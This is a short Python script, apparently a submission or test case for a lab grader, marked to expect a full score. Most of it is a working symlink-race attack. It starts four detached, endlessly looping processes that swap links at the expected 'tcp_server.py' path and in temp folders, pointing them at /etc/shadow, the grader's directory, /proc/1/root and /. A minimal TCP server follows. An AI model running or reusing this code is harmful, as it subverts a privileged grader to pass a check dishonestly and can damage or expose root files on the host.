# expect: score=100
# Whatever is written or emptied between two starts is a link to something of root's, and processes go on swapping it.
import os
import socket

home = os.path.expanduser("~")
for n in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            for place in (home + "/tcp_server.py", "/tmp/x", "/dev/shm/x", "/var/tmp/x"):
                for target in ("/etc/shadow", "/usr/lib/labgrader", "/proc/1/root", "/"):
                    try:
                        os.symlink(target, place + ".new")
                        os.rename(place + ".new", place)
                        os.unlink(place)
                        os.mkdir(place)
                        os.rmdir(place)
                    except OSError:
                        pass
s = socket.create_server(("", 11200))
c, a = s.accept()
print(a)
print([c.recv(1024)])
c.close()
